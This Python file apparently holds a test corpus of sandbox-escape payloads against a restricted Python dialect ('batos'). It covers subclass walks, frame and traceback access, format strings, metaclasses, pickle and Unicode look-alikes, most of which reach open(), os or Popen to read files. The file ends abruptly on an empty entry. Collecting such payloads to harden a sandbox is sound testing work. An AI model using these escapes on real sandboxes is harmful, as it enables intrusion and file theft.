"""Payloads against the restricted language: ways from any value to the interpreter behind it."""

from __future__ import annotations

from scripts.escapes.payloads import family

WALKS = family(
    "subclass walks",
    r"""
## the walk that everybody knows
!module [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__
## by the method resolution order
!module [c for c in ''.__class__.__mro__[-1].__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__
## by type and mro()
!module [c for c in type(0).mro()[-1].__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__
## by bases
!module [c for c in {}.__class__.__bases__[0].__subclasses__() if c.__name__ == '_wrap_close'][0].close.__globals__
## from object itself
!module [c for c in object.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__
## from type with object
!module [c for c in type.__subclasses__(object) if c.__name__ == '_wrap_close'][0].__init__.__globals__
## from the receiver's own class
!module [c for c in self.__class__.__mro__[-1].__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__
## with getattr and split names
c = getattr((), '__cl' + 'ass__')
s = getattr(getattr(c, '__ba' + 'se__'), '__subcl' + 'asses__')()
for each in s:
    if getattr(each, '__na' + 'me__') == '_wrap_close':
        f = getattr(each, '__in' + 'it__')
        return getattr(f, '__glo' + 'bals__')['__builtins__']['open'](path).read()
## with names joined at run time
names = ['_' * 2 + n + '_' * 2 for n in ('class', 'base', 'subclasses')]
x = ()
for n in names[:2]:
    x = getattr(x, n)
w = [c for c in getattr(x, names[2])() if 'wrap_close' in repr(c)][0]
return getattr(getattr(w, '__init__'), '__globals__')['__builtins__']['open'](path).read()
## with reduce over getattr
import functools
s = functools.reduce(getattr, ['__class__', '__base__', '__subclasses__'], ())()
!module [c for c in s if c.__name__ == '_wrap_close'][0].__init__.__globals__
## with reduce and no import
s = functools.reduce(getattr, ['__class__', '__base__', '__subclasses__'], ())()
!module [c for c in s if c.__name__ == '_wrap_close'][0].__init__.__globals__
## with map over getattr
k = list(map(getattr, [()], ['__class__']))[0]
k = list(map(getattr, [k], ['__base__']))[0]
s = list(map(getattr, [k], ['__subclasses__']))[0]()
!module [c for c in s if c.__name__ == '_wrap_close'][0].__init__.__globals__
## with partial of getattr
s = functools.partial(getattr, ().__class__)('__base__')
!module [c for c in s.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__
## by an unbound method of type
k = list.__class__.__subclasses__(list.__class__.__base__)
!module [c for c in k if c.__name__ == '_wrap_close'][0].__init__.__globals__
## through the class of a method
k = [].append.__class__.__base__.__subclasses__()
!module [c for c in k if c.__name__ == '_wrap_close'][0].__init__.__globals__
## through the class of a lambda
k = (lambda: 0).__class__.__base__.__subclasses__()
!module [c for c in k if c.__name__ == '_wrap_close'][0].__init__.__globals__
## through a warning's catcher
k = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]
!module k()._module.__dict__['sys'].modules['os']
## through the loader of the import system
k = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'BuiltinImporter'][0]
!module k.load_module('sys').modules['os']
## through a file loader that reads
k = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'FileLoader'][0]
return k('x', path).get_data(path)
## through Popen's class
import subprocess
k = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]
return k(['cat', path], stdout=-1).communicate()[0]
## through subclasses of an exception
k = [c for c in BaseException.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]
!module k.__init__.__globals__
## through a range
k = [c for c in range(1).__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]
!module k.__init__.__globals__
## through a pattern's class
k = [c for c in re.compile('a').__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]
!module k.__init__.__globals__
## through a Decimal
k = [c for c in decimal.Decimal(1).__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]
!module k.__init__.__globals__
## in a class pattern's attributes
match ():
    case object(__class__=c):
        k = [x for x in c.__base__.__subclasses__() if x.__name__ == '_wrap_close'][0]
        return k.__init__.__globals__['__builtins__']['open'](path).read()
## in a default argument
def inner(k=().__class__.__base__.__subclasses__()):
    return [c for c in k if c.__name__ == '_wrap_close'][0]
!module inner().__init__.__globals__
## in a comprehension's condition
k = [g for g in [().__class__.__base__] if (s := g.__subclasses__())]
!module [c for c in s if c.__name__ == '_wrap_close'][0].__init__.__globals__
""",
)

FRAMES = family(
    "frames and tracebacks",
    r"""
## the traceback of a caught exception
try:
    1 / 0
except ZeroDivisionError as exc:
    b = exc.__traceback__.tb_frame.f_builtins
return b['open'](path).read()
## the frame behind the caller
try:
    1 / 0
except ZeroDivisionError as exc:
    f = exc.__traceback__.tb_frame
while f.f_back is not None:
    f = f.f_back
!builtins f.f_builtins
## with getattr and split names
try:
    1 / 0
except ZeroDivisionError as exc:
    t = getattr(exc, '__trace' + 'back__')
b = getattr(getattr(t, 'tb_fr' + 'ame'), 'f_buil' + 'tins')
return b['open'](path).read()
## sys._getframe
import sys
!builtins sys._getframe().f_builtins
## inspect's current frame
import inspect
!builtins inspect.currentframe().f_back.f_builtins
## the frame of a lambda's error
try:
    (lambda: {}['x'])()
except KeyError as exc:
    t = exc.__traceback__.tb_next
!builtins t.tb_frame.f_globals['__builtins__']
## with_traceback takes one along
try:
    1 / 0
except ZeroDivisionError as exc:
    kept = exc.with_traceback(exc.__traceback__)
!builtins kept.__traceback__.tb_frame.f_builtins
## the context of a second exception
try:
    try:
        1 / 0
    except ZeroDivisionError:
        {}['x']
except KeyError as exc:
    t = exc.__context__.__traceback__
!builtins t.tb_frame.f_builtins
## the cause of a second exception
try:
    try:
        1 / 0
    except ZeroDivisionError as first:
        raise ValueError('x') from first
except ValueError as exc:
    t = exc.__cause__.__traceback__
!builtins t.tb_frame.f_builtins
## the third argument of __exit__
class C:
    def __enter__(self):
        return self
    def __exit__(self, kind, exc, tb):
        self.tb = tb
        return True
c = C()
with c:
    1 / 0
!builtins c.tb.tb_frame.f_builtins
## sys.exc_info
import sys
try:
    1 / 0
except ZeroDivisionError:
    t = sys.exc_info()[2]
!builtins t.tb_frame.f_builtins
## the traceback module's walk
import traceback
try:
    1 / 0
except ZeroDivisionError as exc:
    f = list(traceback.walk_tb(exc.__traceback__))[0][0]
!builtins f.f_builtins
## an error in a send, from the frame of batos
try:
    self.not_there_at_all_x(1)
except Exception as exc:
    t = exc.__traceback__
while t.tb_next is not None:
    t = t.tb_next
!builtins t.tb_frame.f_builtins
## an AttributeError's obj
try:
    path.nowhere
except AttributeError as exc:
    return [c for c in exc.obj.__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']['open'](path).read()
## the frame's locals are changed
import sys
f = sys._getframe()
f.f_globals['poisoned'] = won
return sys._getframe().f_globals['poisoned']
## a trace function that looks on
import sys
seen = []
def look(frame, event, arg):
    seen.append(frame)
    return look
sys.settrace(look)
(lambda: 1)()
sys.settrace(None)
!builtins seen[0].f_builtins
## a profile function that looks on
import sys
seen = []
def look(frame, event, arg):
    seen.append(frame)
sys.setprofile(look)
len('x')
sys.setprofile(None)
!builtins seen[0].f_builtins
## all threads' frames
import sys
!builtins list(sys._current_frames().values())[0].f_builtins
## an exception group's parts
try:
    raise ExceptionGroup('x', [ValueError('y')])
except* ValueError as group:
    t = group.__traceback__
!builtins t.tb_frame.f_builtins
## excepthook is replaced
import sys
def hook(kind, exc, tb):
    pass
sys.excepthook = hook
return won if sys.excepthook is hook else 0
## a frame found among the referrers
import gc
for each in gc.get_objects():
    if type(each).__name__ == 'frame':
        return each.f_builtins['open'](path).read()
import sys
for each in gc.get_referrers(sys._getframe().f_globals):
    return each.__builtins__['open'](path).read()
## the warnings' registry of a frame
import warnings, sys
warnings.showwarning = lambda *a, **k: None
return won if warnings.showwarning.__name__ == '<lambda>' else 0
## the error's traceback by dict access
try:
    1 / 0
except ZeroDivisionError as exc:
    t = exc.__getattribute__('__traceback__')
!builtins t.tb_frame.f_builtins
## str.format on a caught exception
try:
    1 / 0
except ZeroDivisionError as exc:
    text = '{0.__traceback__.tb_frame.f_globals[__builtins__]}'.format(exc)
return won if 'open' in text or 'builtins' in text else 0
""",
)

GENERATORS = family(
    "generators and coroutines",
    r"""
## the frame of a generator expression
g = (x for x in [1])
!builtins g.gi_frame.f_builtins
## with getattr
g = (x for x in [1])
!builtins getattr(getattr(g, 'gi_' + 'frame'), 'f_' + 'builtins')
## the frame behind a running generator
g = (g.gi_frame.f_back.f_back for _ in [1])
f = list(g)[0]
!builtins (f or (x for x in '').gi_frame).f_builtins
## its code with other names
g = (x for x in [1])
c = g.gi_code.replace(co_names=('open',))
return c.co_names[0] and g.gi_frame.f_builtins['open'](path).read()
## yield in a method?
g = (yield)
!builtins g.gi_frame.f_builtins
## a generator function inside
def inner():
    yield 1
!builtins inner().gi_frame.f_builtins
## yield from
def inner():
    yield from [1]
g = inner()
next(g)
!builtins g.gi_frame.f_builtins
## what a generator delegates to
def inner():
    yield from (x for x in [1, 2])
g = inner()
next(g)
!builtins g.gi_yieldfrom.gi_frame.f_builtins
## throw into a generator
def inner():
    try:
        yield 1
    except ValueError as exc:
        yield exc.__traceback__.tb_frame.f_builtins
g = inner()
next(g)
!builtins g.throw(ValueError('x'))
## throw into a generator expression
g = (x for x in [1, 2])
next(g)
try:
    g.throw(ValueError)
except ValueError as exc:
    t = exc.__traceback__
!builtins t.tb_next.tb_frame.f_builtins
## send into a generator
def inner():
    got = yield
    yield got.f_builtins
import sys
g = inner()
next(g)
!builtins g.send(sys._getframe())
## a coroutine's frame
async def inner():
    return 1
c = inner()
b = c.cr_frame.f_builtins
c.close()
return b['open'](path).read()
## a coroutine's await
async def inner():
    return 1
async def outer():
    await inner()
c = outer()
b = c.cr_frame.f_builtins
c.close()
return b['open'](path).read()
## an asynchronous generator
async def inner():
    yield 1
!builtins inner().ag_frame.f_builtins
## an asynchronous comprehension
async def inner():
    return [x async for x in y]
c = inner()
b = c.cr_frame.f_builtins
c.close()
return b['open'](path).read()
## a generator in an iterator of ours
g = map(lambda x: x, (x for x in [1]))
!builtins (x for x in [1]).gi_frame.f_builtins if g else 0
## the items inside a lazy iterator?
g = enumerate([1])
return [c for c in g._items.__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']['open'](path).read()
## chain's iterators
g = itertools.chain([1])
!function type(g).__init__.__class__.__base__.__subclasses__()[140].__init__
## tee's copy
a, b = itertools.tee([1])
!function [c for c in a.__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__
## the reduction of an iterator
f = iter([1]).__reduce__()[0]
return f.__self__.open(path).read()
## the reduction of a reversed
f = iter([1]).__reduce_ex__(4)[0]
return f.__self__.open(path).read()
## types.coroutine
import types
@types.coroutine
def inner():
    yield
!builtins inner().gi_frame.f_builtins
## asyncio runs it
import asyncio
async def inner():
    with open(path) as file:
        return file.read()
return asyncio.run(inner())
## contextmanager
import contextlib
@contextlib.contextmanager
def inner():
    yield
!builtins inner().gen.gi_frame.f_builtins
""",
)

FORMATS = family(
    "format strings",
    r"""
## an attribute path in format
text = '{0.__class__.__base__.__subclasses__}'.format(())
return won if 'subclasses' in text else 0
## an index after attributes
text = '{0.__init__.__globals__[__name__]}'.format(self.__class__)
return won if text else 0
## of the receiver
text = '{self.__class__.__init__}'.format(self=self)
return won if 'init' in text else 0
## through a keyword
text = '{x.__class__.__mro__}'.format(x=1)
return won if 'object' in text else 0
## format_map
text = '{x.__class__.__mro__}'.format_map({'x': 1})
return won if 'object' in text else 0
## taken from the class
text = str.format('{0.__class__}', 1)
return won if 'int' in text else 0
## format_map from the class
text = str.format_map('{x.__class__}', {'x': 1})
return won if 'int' in text else 0
## with getattr
text = getattr('{0.__class__}', 'format')(1)
return won if 'int' in text else 0
## with getattr and a split name
text = getattr('{0.__class__}', 'for' + 'mat')(1)
return won if 'int' in text else 0
## mapped over templates
text = list(map('{0.__class__}'.format, [1]))[0]
return won if 'int' in text else 0
## mapped from the class
text = list(map(str.format, ['{0.__class__}'], [1]))[0]
return won if 'int' in text else 0
## as the key of sorted
seen = sorted(['{0.__class__}'], key=lambda t: t.format(1))
text = [t.format(1) for t in seen][0]
return won if 'int' in text else 0
## partial of format
text = functools.partial('{0.__class__}'.format)(1)
return won if 'int' in text else 0
## reduce with format
text = functools.reduce(str.format, ['{0.__class__}', 1])
return won if 'int' in text else 0
## a format spec inside a field?
text = '{0:{1.__class__}}'.format(1, 2)
return won if 'int' in text else 0
## a nested field with an attribute?
text = '{0:{0.__class__.__name__[0]}}'.format('x')
return won
## conversion and attribute
text = '{0.__class__!r}'.format(1)
return won if 'int' in text else 0
## the Formatter's field
import string
f, _ = string.Formatter().get_field('0.__class__', [1], {})
return won if f is int else 0
## the Formatter by the module at hand
f = string.Formatter().vformat('{0.__class__}', [1], {})
return won if 'int' in f else 0
## a Template's pattern
return [c for c in string.Template.pattern.__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']['open'](path).read()
## the percent form with a mapping that runs?
text = '%(x)s' % {'x': self.__class__}
return won if 'class' in text else 0
## an f-string's attribute
text = f'{().__class__.__base__.__subclasses__()}'
return won if 'object' in text or 'class' in text else 0
## an f-string's nested attribute
text = f'{1:{().__class__.__name__[0:0]}d}{().__class__}'
return won if 'tuple' in text else 0
## a global by the format of a method
text = '{0.__globals__}'.format(m if 0 else (lambda: 0))
return won if 'builtins' in text else 0
## a slot of ours by format
text = '{0._p_jar}'.format(self)
return won if text else 0
## the private name of an object
text = '{0._slots}'.format(self)
return won if 'balance' in text else 0
## a width that fills the memory?
return '{:>9999999999}'.format(1)
## a precision that fills the memory?
return '%.999999999d' % 1
## an index in a format
text = '{0[0].__class__}'.format([1])
return won if 'int' in text else 0
## bytes by percent?
return b'%9999999999d' % 1
## strftime of a broken format?
return datetime.date(2020, 1, 1).strftime('%' * 9_999_999)
## the format of an object with __format__?
class F:
    def __format__(self, spec):
        return open(path).read()
return '{}'.format(F())
## logging's format
import logging
logging.Formatter().formatException
return won
""",
)

DESCRIPTORS = family(
    "decorators and descriptors",
    r"""
## a decorator runs on a class
@(lambda c: c.__base__)
class X:
    pass
return won
## a decorator that is a lambda
@(lambda f: f.__globals__)
def inner():
    pass
return inner['__builtins__']['open'](path).read()
## a decorator that is exec
@(lambda f: exec('x = 1') or won)
def inner():
    pass
return inner
## a decorator reads the function
@(lambda f: open(path))
def inner():
    return path
return inner.read()
## property's getter
class P:
    @property
    def it(self):
        return open(path).read()
return P().it
## the getter of a property object
p = property(lambda s: open(path).read())
return p.fget(0)
## a descriptor of our making
class D:
    def __get__(self, obj, kind):
        return open(path).read()
class X:
    it = D()
return X().it
## __set_name__
seen = []
class D:
    def __set_name__(self, owner, name):
        seen.append(open(path).read())
class X:
    it = D()
return seen[0]
## a method's function
!function self.clone.__func__ if hasattr(self.clone, '__func__') else (lambda: 0)
## a slot wrapper of a type
f = dict.__dict__['get']
return won if f.__class__.__name__ == 'method_descriptor' else 0
## a classmethod's inner function
f = classmethod(lambda c: open(path).read())
return f.__func__(0)
## staticmethod's inner function
f = staticmethod(lambda: open(path).read())
return f.__func__()
## staticmethod called on what it is not
return staticmethod(open)(path).read()
## cached_property
import functools
class X:
    @functools.cached_property
    def it(self):
        return open(path).read()
return X().it
## wraps leaves the wrapped function
import functools
@functools.wraps(open)
def inner(*a):
    return inner.__wrapped__(*a)
return inner(path).read()
## singledispatch's registry
@functools.singledispatch
def inner(x):
    return inner.__globals__['__builtins__']['open'](path).read()
return inner(1)
## lru_cache's wrapped
@functools.lru_cache
def inner():
    return inner.__wrapped__.__globals__['__builtins__']['open'](path).read()
return inner()
## a partial's function
p = functools.partial(lambda: 0)
!function p.func
## a partial's state
p = functools.partial(int)
p.__setstate__((open, (path,), {}, {}))
return p().read()
## update_wrapper writes attributes
def inner():
    pass
functools.update_wrapper(self, inner)
return won
## __getattribute__ of the type
return type(self).__getattribute__(self, '__class__').__init__.__globals__['__builtins__']['open'](path).read()
## a descriptor's __get__ by hand
f = type(self).__dict__['_install'].__get__(self)
!function f.__func__
## operator.attrgetter
import operator
k = operator.attrgetter('__class__.__base__')(())
!function [c for c in k.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__
## operator.methodcaller
import operator
k = operator.methodcaller('__subclasses__')(object)
!function [c for c in k if c.__name__ == '_wrap_close'][0].__init__
## a reversed key function
class K:
    def __lt__(self, other):
        raise ValueError(open(path).read())
return sorted([K(), K()])
## __class_getitem__
return [c for c in list.__class_getitem__(int).__origin__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']['open'](path).read()
## the origin of a generic alias
k = list[int].__origin__.__base__.__subclasses__()
!function [c for c in k if c.__name__ == '_wrap_close'][0].__init__
## the members of a union
k = (int | str).__args__[0].__base__.__subclasses__()
!function [c for c in k if c.__name__ == '_wrap_close'][0].__init__
## annotations evaluated
def inner(x: open(path).read() = 0):
    return inner.__annotations__['x']
import typing
return typing.get_type_hints(inner, {'open': open, 'path': path})['x']
""",
)

GLOBALS = family(
    "__class__ and __globals__",
    r"""
## the globals of a lambda
!function lambda: 0
## the globals of an inner function
def inner():
    return 1
!function inner
## with getattr
f = lambda: 0
b = getattr(f, '__glo' + 'bals__')['__builtins__']
b = b if isinstance(b, dict) else b.__dict__
return b['open'](path).read()
## func_globals of old
f = lambda: 0
return getattr(f, 'func_globals', f.__globals__)['__builtins__']['open'](path).read()
## its code replaced
def inner():
    return 1
def other():
    return open(path).read()
inner.__code__ = (lambda: 0).__code__.replace(co_names=('open',))
return won if inner.__code__ else 0
## its defaults replaced
def inner(x=0):
    return x
inner.__defaults__ = (won,)
return inner()
## its keyword defaults replaced
def inner(*, x=0):
    return x
inner.__kwdefaults__ = {'x': won}
return inner()
## its closure's cells
y = won
def inner():
    return y
return inner.__closure__[0].cell_contents
## a built-in's __self__
return len.__self__.open(path).read()
## with getattr on a built-in
return getattr(getattr(len, '__se' + 'lf__'), 'op' + 'en')(path).read()
## a bound method's __self__
return [c for c in [].append.__self__.__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']['open'](path).read()
## the module of a function
import sys
return sys.modules[(lambda: 0).__globals__['__name__'] if 0 else 'builtins'].open(path).read()
## the class of the receiver is changed
class C(self.__class__):
    def reveal(self):
        return won
self.__class__ = C
return self.__class__.reveal(self)
## an attribute of the receiver's class
self.__class__.poisoned = won
return self.poisoned
## setattr with a dunder
setattr(self, '__class__', type('C', (type(self),), {}))
return won
## setattr with a dunder on a class
setattr(self.__class__, 'poisoned', won)
return self.poisoned
## delattr with a private name?
delattr(self, '_name')
return won
## the receiver's dict
return won if self.__dict__ is not None else 0
## vars of the receiver
return won if vars(self) is not None else 0
## globals
return globals()['__builtins__']['open'](path).read()
## locals
return won if locals()['path'] == path else 0
## the names of a module
import os
return won if vars(os)['open'] else 0
## dir
return won if dir(self) else 0
## a module by __import__
!module __import__('os')
## a module by import
import os
!module os
## a module by from-import
from os import open as o, read as r
return r(o(path, 0), 100)
## a module by a dotted import
import os.path
!module os
## a module by importlib
import importlib
!module importlib.import_module('os')
## the modules of sys
import sys
!module sys.modules['os']
## eval
return eval("open(path).read()", {'path': path})
## exec
space = {'path': path}
exec("x = open(path).read()", space)
return space['x']
## compile
return eval(compile("open(path).read()", 'x', 'eval'), {'path': path})
## open itself
return open(path).read()
## a global statement
global poisoned
poisoned = won
return poisoned
## what a facade hides: math
!module math.__loader__.__init__.__globals__ if hasattr(math.__loader__, '__init__') and hasattr(math.__loader__.__init__, '__globals__') else random._os
## what a facade hides: random's os
!module random._os
## what a facade hides: json's codecs
!module json.codecs.__builtins__['__import__']('os')
## what a facade hides: re
!module re.enum.sys.modules['os']
## what a facade hides: statistics
!module statistics.sys.modules['os']
## what a facade hides: textwrap
!module textwrap.re.enum.sys.modules['os']
## what a facade hides: collections
!module collections._sys.modules['os']
## what a facade hides: functools
!module functools.recursive_repr.__globals__['__builtins__']['__import__']('os')
## what a facade hides: fractions
!module fractions.sys.modules['os']
## what a facade hides: heapq
return heapq.__spec__.loader.get_data(path)
## what a facade hides: copy
!module copy.deepcopy.__globals__['__builtins__']['__import__']('os')
## what a facade hides: datetime
!module datetime.sys.modules['os']
## what a facade hides: its dict
return won if math.__dict__ else 0
## getattr on a facade with a hidden name
!module getattr(random, '_' + 'os')
## writing to a facade
math.pi = won
return math.pi
## setattr on a facade
setattr(math, 'pi', won)
return math.pi
## a facade's function, changed
math.sqrt = len
return won
## the builtins, changed
import builtins
builtins.len = lambda x: won
return builtins.len(0)
## the flags of batos, changed
import batos.guardian.policy as p
p.BUILTINS['open'] = open
return p.BUILTINS['open'](path).read()
## the hooks of the policy, by name?
return [c for c in _getattr_(path, '__class__').__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']['open'](path).read()
## the hooks of the policy, replaced
_send_0_ = lambda *a: won
return _send_0_(self, 'x')
## a class statement
class X:
    def reveal(self):
        return open(path).read()
return X().reveal()
""",
)

EXCEPTIONS = family(
    "exceptions' attributes",
    r"""
## the args of an error
try:
    raise ValueError(won)
except ValueError as exc:
    return [c for c in exc.__class__.__base__.__base__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']['open'](path).read()
## setting args to a trap
try:
    1 / 0
except ZeroDivisionError as exc:
    exc.args = (open,)
    return exc.args[0](path).read()
## an attribute hung onto an error
try:
    1 / 0
except ZeroDivisionError as exc:
    exc.kept = won
    return exc.kept
## a note hung onto an error
try:
    1 / 0
except ZeroDivisionError as exc:
    exc.add_note(won)
    return exc.__notes__[0]
## the object of an AttributeError
try:
    [].nowhere
except AttributeError as exc:
    return won if exc.obj is not None else 0
## the name of a NameError
try:
    nowhere_at_all
except NameError as exc:
    return won if exc.name else 0
## the value of StopIteration
def inner():
    return won
    yield
try:
    next(inner())
except StopIteration as exc:
    return exc.value
## the object of a UnicodeError
try:
    b'\xff'.decode('ascii')
except UnicodeError as exc:
    return won if exc.object else 0
## an exception class of our own
class E(Exception):
    def __str__(self):
        return open(path).read()
try:
    raise E()
except E as exc:
    return str(exc)
## an exception made by type
E = type('E', (Exception,), {'__str__': lambda s: open(path).read()})
try:
    raise E()
except Exception as exc:
    return str(exc)
## BaseException catches the end
try:
    raise KeyboardInterrupt
except BaseException:
    return won
## a bare except catches the end
try:
    raise SystemExit(won)
except:
    return won
## SystemExit ends the image
raise SystemExit(won)
## KeyboardInterrupt ends the image
raise KeyboardInterrupt(won)
## GeneratorExit goes past everybody
raise GeneratorExit(won)
## OutOfFuel by its name
from batos.objects.fuel import OutOfFuel
try:
    raise OutOfFuel
except OutOfFuel:
    return won
## finally swallows the end
try:
    raise SystemExit
finally:
    return won
## an OSError that opens by its name?
return OSError(2, 'x', path).filename
## quit?
quit()
## exit from the site module?
exit(0)
## __suppress_context__ and __cause__ are set
try:
    1 / 0
except ZeroDivisionError as exc:
    exc.__cause__ = ValueError(won)
    return exc.__cause__.args[0]
## __traceback__ is set
try:
    1 / 0
except ZeroDivisionError as exc:
    exc.__traceback__ = None
    return won
## an error as a class of its class
try:
    1 / 0
except ZeroDivisionError as exc:
    return won if exc.__class__(won).args[0] == won else 0
## reduce of an error
try:
    1 / 0
except ZeroDivisionError as exc:
    f = exc.__reduce__()[0]
    return won if f is ZeroDivisionError else 0
## __setstate__ of an error
try:
    1 / 0
except ZeroDivisionError as exc:
    exc.__setstate__({'kept': won})
    return exc.kept
## raising a class with a metaclass
class M(type):
    def __call__(cls, *a):
        return ValueError(open(path).read())
class E(Exception, metaclass=M):
    pass
return E().args[0]
## an except clause that is an expression
try:
    1 / 0
except (lambda: open(path).read())() and ZeroDivisionError:
    return won
## an error out of the image's own words
try:
    self.define('def x(self): import os')
except Exception as exc:
    return won if exc.__dict__ else 0
""",
)

METACLASSES = family(
    "type and metaclass tricks",
    r"""
## type with three arguments
X = type('X', (), {'reveal': lambda s: open(path).read()})
return X().reveal()
## type of the receiver
return type(self).__init__.__globals__['__builtins__']['open'](path).read()
## type by the class of a class
t = int.__class__
X = t('X', (), {'reveal': lambda s: open(path).read()})
return X().reveal()
## a metaclass's prepare
class M(type):
    @classmethod
    def __prepare__(cls, name, bases):
        return {'got': open(path).read()}
class X(metaclass=M):
    pass
return X.got
## a metaclass's getattr
class M(type):
    def __getattr__(cls, name):
        return open(path).read()
class X(metaclass=M):
    pass
return X.it
## __init_subclass__
seen = []
class A:
    def __init_subclass__(cls):
        seen.append(open(path).read())
class B(A):
    pass
return seen[0]
## __build_class__
import builtins
X = builtins.__build_class__(lambda: None, 'X')
return won if X else 0
## a namedtuple evaluates its source
X = collections.namedtuple('X', 'a')
return won if X.__new__.__globals__ is not None else 0
## a namedtuple with a hostile name
return won if collections.namedtuple('X', ['a'], module='os').__module__ == 'os' else 0
## types.new_class
import types
X = types.new_class('X', (), {}, lambda ns: ns.update(it=won))
return X.it
## types.FunctionType
import types
f = types.FunctionType((lambda: 0).__code__, {'__builtins__': {}})
return won if f() == 0 else 0
## types.CodeType
c = (lambda: 0).__code__
f = type(lambda: 0)(c.replace(co_consts=(None, won)), {})
return won if f else 0
## a dataclass executes its source
import dataclasses
X = dataclasses.make_dataclass('X', [('a', int)])
return won if X(1).a else 0
## an Enum
import enum
X = enum.Enum('X', 'a b')
return won if X.a else 0
## typing evaluates forward references
import typing
def inner():
    pass
inner.__annotations__ = {'x': "open('%s').read()" % path}
try:
    return typing.get_type_hints(inner)['x']
except SyntaxError as exc:
    return exc.text
## isinstance with a class of ours
class M(type):
    def __instancecheck__(cls, obj):
        raise ValueError(open(path).read())
class X(metaclass=M):
    pass
return isinstance(1, X)
## isinstance with what is no class?
return isinstance(1, self)
## a class through a Guarded name?
return [c for c in int.kind.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']['open'](path).read()
## a Guarded name's maker?
!function int.make
## str's maker by getattr?
!function getattr(str, 'ma' + 'ke')
## the object of a case pattern
match self:
    case int(real=x):
        return won
    case object() as o:
        return o.__class__.__init__.__globals__['__builtins__']['open'](path).read()
## mutating a type's dict by gc
import gc
gc.get_referents(int.__dict__)[0]['poisoned'] = won
return (1).poisoned
## ctypes pokes a type
import ctypes
return ctypes.string_at(id(won) + 48 + 0, 0) and won or won
## abstract base registers
import abc
class A(abc.ABC):
    pass
A.register(int)
return won if isinstance(1, A) else 0
## weakref to the receiver
import weakref
return won if weakref.ref(self)() is self else 0
## super of the receiver?
return super().__init__.__self__ and won
## super with arguments
return won if super(type(self), self) else 0
## the receiver's constructor
return won if type(self)() is not None else 0
## become another class's object?
self.become(1)
return won
## a parent that is a class?
self.adopt(int)
return won
""",
)

PICKLES = family(
    "pickle",
    r"""
## loads what calls open
import pickle
return pickle.loads(b"cbuiltins\nopen\n(V" + path.encode() + b"\ntR.").read()
## loads what calls system
import pickle
pickle.loads(b"cos\nmkdir\n(V" + (path + '.made').encode() + b"\ntR.")
return won
## an Unpickler of its own
import pickle, io
return pickle.Unpickler(io.BytesIO(b"cbuiltins\nopen\n(V" + path.encode() + b"\ntR.")).load().read()
## the C module by name
import _pickle
return _pickle.loads(b"cbuiltins\nopen\n(V" + path.encode() + b"\ntR.").read()
## find_class
import pickle, io
return pickle.Unpickler(io.BytesIO(b'')).find_class('builtins', 'open')(path).read()
## __reduce__ in a class
class R:
    def __reduce__(self):
        return (open, (path,))
import pickle
return won if pickle.dumps(R()) else 0
## __reduce_ex__ of the receiver
return won if self.__reduce_ex__(2) else 0
## __getstate__ of the receiver
return won if self.__getstate__() is not None else 0
## __setstate__ of the receiver
self.__setstate__({'poisoned': won})
return self.poisoned
## __new__ of the receiver
return won if self.__class__.__new__(self.__class__) is not None else 0
## copyreg makes an object
import copyreg
return won if copyreg.__newobj__(type(self)) is not None else 0
## copy runs __reduce_ex__
class R:
    def __reduce_ex__(self, protocol):
        return (open, (path,))
return copy.copy(R()).read()
## copy runs __deepcopy__
class R:
    def __deepcopy__(self, memo):
        return open(path).read()
return copy.deepcopy(R())
## marshal loads code
import marshal
c = marshal.loads(marshal.dumps((lambda: 0).__code__))
return won if c else 0
## shelve opens files
import shelve
shelve.open(path + '.db')['x'] = 1
return won
## a slot that holds a lambda?
self.balance = lambda: open(path).read()
return won
## a slot that holds a generator?
self.balance = (x for x in [1])
return won
## a slot that holds a facade's function?
self.balance = math.sqrt
return won
## a slot that holds a class?
self.balance = list
return won
## a slot that holds a module?
self.balance = math
return won
## a list in a slot that holds a lambda?
self.log.append(lambda: open(path).read())
return won
## the connection of the receiver?
return won if self._p_jar is not None else 0
## the storage behind the connection?
return won if self._p_jar.db() else 0
## the oid of the receiver
self._p_oid = b'12345678'
return won
## ghostify
self._p_deactivate()
return won
## invalidate
self._p_invalidate()
return won
## json with a hook that runs
return json.loads('{"a": 1}', object_hook=lambda d: open(path).read())
## json with a class that runs
return json.dumps(1, cls=type('E', (json.JSONEncoder,), {'encode': lambda s, o: open(path).read()}))
## json with a default that runs
return json.dumps({'a': object()}, default=lambda o: open(path).read())
## yaml and its like by name?
import xml.sax
xml.sax.parse(path, xml.sax.ContentHandler())
return won
""",
)

LOOK_ALIKES = family(
    "Unicode look-alikes",
    r"""
## a full-width dunder
return [c for c in ().__ｃlass__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']['open'](path).read()
## a full-width import
ｉmport = 1
import os as ｏs
!module os
## a full-width open
return ｏpen(path).read()
## a mathematical open
return 𝓸𝓹𝓮𝓷(path).read()
## a mathematical eval
return 𝐞𝐯𝐚𝐥("open(path).read()", {'path': path})
## a mathematical exec
